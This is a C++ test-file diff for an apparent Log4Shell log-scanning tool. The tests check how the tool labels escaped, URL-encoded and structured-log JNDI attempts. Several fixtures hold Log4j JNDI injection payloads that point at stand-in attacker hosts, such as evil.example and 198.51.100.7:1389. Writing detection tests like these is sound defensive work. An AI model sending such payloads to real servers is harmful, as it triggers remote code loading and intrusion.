@@ -251,7 +251,7 @@ TEST_F(HuntE2E, NoFalseAlarmOnOrdinaryLogs) {
       "[WARNING] 'dependencies.dependency.version' for ${groupId}:${artifactId}:jar uses ${revision}${changelist}\n"
       "2021-12-10 10:00:04 WARN javax.naming.NamingException: jndi lookup of java:comp/env/jdbc/db failed (com.sun.jndi)\n"
       "2021-12-10 10:00:05 INFO the word jndi, JNDI and jndi:ldap alone are not lookups\n"
-      "2021-12-10 10:00:06 INFO escaped, substitute path only: $${jndi:ldap://evil.example/a}\n"
+      "2021-12-10 10:00:06 INFO placeholders: https://${system.urlhostname}:${port}/ui DataNode$PacketResponder\n"
       "2021-12-10 10:00:07 INFO ${sys:user.home} ${env:HOME} ${date:yyyy-MM-dd} ${ctx:user} ${hostName} ${jndi}\n"
       "2021-12-10 10:00:08 INFO price: $5 {json: {\"a\": \"${x\"}} 100% done \\u0041 &amp; %20\n";
   std::string file = write("clean/app.log", log);
@@ -264,6 +264,42 @@ TEST_F(HuntE2E, NoFalseAlarmOnOrdinaryLogs) {
   CommandResult text = hunt(q(file));
   EXPECT_EQ(text.exit_code, 0);
   EXPECT_NE(text.out.find("0 attempt(s) in 1 file(s)"), std::string::npos) << text.out;
+}
+
+// Attempts Log4j leaves alone are reported as "inert" and low, never as
+// reaching JNDI, and do not raise the exit code; structured logs are read
+// field by field, with W3C times and addresses.
+TEST_F(HuntE2E, InertAttemptsAndStructuredLogs) {
+  std::string file = write("inert/app.log",
+                           "2021-12-10 10:00:06 INFO escaped: $${jndi:ldap://evil.example/a}\n"
+                           "2021-12-10 10:00:07 INFO body %24%7Bjndi:ldap://evil.example/b%7D\n"
+                           "{\"@timestamp\":\"2021-12-10T10:00:08Z\",\"message\":\"${jndi:ldap://evil.example/c\"}\n");
+  int rc = -1;
+  Lines out = hunt_jsonl(q(file), &rc);
+  EXPECT_EQ(rc, 0);
+  ASSERT_EQ(out.detections.size(), 3u);
+  for (const json& d : out.detections) {
+    EXPECT_EQ(d["verdict"], "inert") << d;
+    EXPECT_EQ(d["severity"], "low") << d;
+  }
+  EXPECT_EQ(out.detections[1]["layers"], json::array({"url"}));
+  EXPECT_EQ(out.detections[2]["field"], "message");
+  EXPECT_EQ(out.summary["verdicts"]["inert"], 3);
+
+  std::string w3c = write("inert/u_ex211210.log",
+                          "#Software: Microsoft Internet Information Services 10.0\n#Version: 1.0\n"
+                          "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port c-ip cs(User-Agent) sc-status\n"
+                          "2021-12-10 10:00:09 10.0.0.5 GET /api q=%24%7Bjndi:ldap://198.51.100.7:1389/a%7D 443 "
+                          "203.0.113.9 Mozilla/5.0 200\n");
+  Lines iis = hunt_jsonl(q(w3c), &rc);
+  EXPECT_EQ(rc, 1);
+  ASSERT_EQ(iis.detections.size(), 1u);
+  const json& d = iis.detections[0];
+  EXPECT_EQ(d["verdict"], "reaches_jndi_2.14");
+  EXPECT_EQ(d["field"], "cs-uri-query");
+  EXPECT_EQ(d["source_ip"], "203.0.113.9");
+  EXPECT_EQ(d["timestamp"], "2021-12-10T10:00:09Z");
+  EXPECT_EQ(d["jndi"]["host"], "198.51.100.7");
 }
 
 // --- Compression, stdin, hostile bytes ---------------------------------------
@@ -594,7 +630,7 @@ TEST_F(HuntE2E, EveryFormatParsesBack) {
   ic << std::ifstream(path("iocs.csv")).rdbuf();
   auto irows = parse_csv(ic.str());
   ASSERT_GE(irows.size(), 2u);
-  EXPECT_EQ(irows[0], (std::vector<std::string>{"type", "value", "port", "count", "first_seen", "last_seen"}));
+  EXPECT_EQ(irows[0], (std::vector<std::string>{"type", "value", "port", "count", "reaching", "first_seen", "last_seen"}));
   bool ip = false;
   for (const auto& r : irows) ip |= r[0] == "ipv4" && r[1] == "198.51.100.23" && r[2] == "1389" && r[3] == "2";
   EXPECT_TRUE(ip) << ic.str();
